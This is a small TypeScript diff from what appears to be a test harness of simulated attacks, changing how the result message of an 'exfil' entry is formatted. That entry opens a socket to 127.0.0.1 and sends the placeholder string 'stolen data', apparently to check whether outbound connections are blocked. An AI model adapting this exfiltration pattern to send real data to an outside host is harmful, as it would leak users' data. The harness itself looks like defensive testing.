@@ -38,7 +38,7 @@ const attacks: Record<string, { description: string; run: () => Promise<string> 
     run: () =>
       new Promise((resolve, reject) => {
         const s = net.connect(targets.exfil, '127.0.0.1', () =>
-          s.end('stolen data\n', () => resolve('sent to 127.0.0.1:' + targets.exfil)),
+          s.end('stolen data\n', () => resolve(`sent to 127.0.0.1:${targets.exfil}`)),
         );
         s.on('error', reject);
         s.setTimeout(3000, () => s.destroy(new Error('ETIMEDOUT')));
